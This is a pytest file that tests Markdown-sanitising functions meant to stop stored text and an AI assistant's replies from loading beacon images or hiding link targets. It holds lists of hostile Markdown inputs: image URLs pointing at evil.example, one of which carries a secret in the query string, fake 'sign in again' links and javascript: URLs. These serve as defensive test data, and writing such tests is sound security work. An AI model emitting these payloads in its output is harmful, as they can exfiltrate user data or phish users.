"""Stored text cannot become Markdown (images that beacon, fake "sign in again" links,
headings), and Claude's replies, the only Markdown we render, cannot load images or
hide a link's target."""

from __future__ import annotations

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.foundation.markdown_oracle import problems
from ui.text import md_escape, safe_markdown

HOSTILE = [
    "![x](http://evil.example/b.png)",
    "[sign in again](http://evil.example)",
    "<img src=x>",
    "# heading",
    "**bold**",
    "![x][logo]\n\n[logo]: http://evil.example/b.png",
    "[sign in][r]\n\n[r]: http://evil.example",
    "<http://evil.example/b.png>",
    "<javascript:alert(1)>",
    "title\n=====",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "- item\n> quote",
    "http://evil.example and www.evil.example and me@evil.example",
    ":red[alert] :material/warning: $x^2$",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_md_escape_leaves_no_markdown_structure(text):
    escaped = md_escape(text)
    assert problems(escaped, literal=True) == []
    assert "://" not in escaped and "www." not in escaped and "me@" not in escaped


def test_md_escape_shows_the_text_unchanged():
    from markdown_it import MarkdownIt

    for text in ("![x](http://evil.example/b.png)", "a_b*c* <d> #1 [e] `f` 100%"):
        rendered = MarkdownIt("commonmark").renderInline(md_escape(text))
        assert rendered == MarkdownIt("commonmark").utils.escapeHtml(text)


@pytest.mark.parametrize(
    "reply",
    [
        "Here ![chart](http://evil.example/b.png?secret=42) is the chart",
        "![x][logo]\n\n[logo]: http://evil.example/b.png",
        "![x]\n\n[x]: http://evil.example/b.png",
        'See <img src="http://evil.example/b.png"> here',
        "[![i](http://evil.example/i.png)](http://evil.example)",
        "[sign in again](http://evil.example/login)",
        "[https://bank.example](http://evil.example)",
        "[sign in][r]\n\n   [r]: http://evil.example 'Title'",
        "> [r]: http://evil.example\n\n[r]",
        "[a [b] c](http://evil.example)",
        "[\\\\]()",
        "``![x](http://evil.example/b.png)`",
        "```x`\n![x](http://evil.example/b.png)\n```",
    ],
)
def test_safe_markdown_loads_no_image_and_hides_no_link(reply):
    assert problems(reply, literal=False), "the case must be hostile on its own"
    assert problems(safe_markdown(reply), literal=False) == []


def test_safe_markdown_shows_other_schemes_as_text():
    assert safe_markdown("<javascript:alert(1)>") == "&lt;javascript:alert(1)>"
    assert safe_markdown("[click](javascript:alert(1))") == "click (javascript\\:alert\\(1\\))"


def test_safe_markdown_keeps_formatting_code_and_shows_link_targets():
    reply = (
        "# Result\n\n**Sharpe** 1.2, see [the docs](https://docs.example/x).\n\n"
        "```python\nprint('![x](y)')\n```\n\nInline `![a](b)` stays code.\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |"
    )
    out = safe_markdown(reply)
    assert out.startswith("# Result\n\n**Sharpe** 1.2, see the docs (<https://docs.example/x>).")
    assert "```python\nprint('![x](y)')\n```" in out
    assert "`![a](b)`" in out
    assert "| 1 | 2 |" in out
    image = safe_markdown("![chart](http://evil.example/b.png)")
    assert "image not loaded" in image and "evil" in image


_PIECES = list("![]()<>`~:\\/\n *-#xh") + ["http://e", "![", "](", "]:", "```", "<img ", "[r]"]


@settings(max_examples=3000, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.lists(st.sampled_from(_PIECES), max_size=25).map("".join))
def test_no_arrangement_of_markdown_pieces_gets_through(text):
    assert problems(safe_markdown(text), literal=False) == []
    assert problems(md_escape(text), literal=True) == []
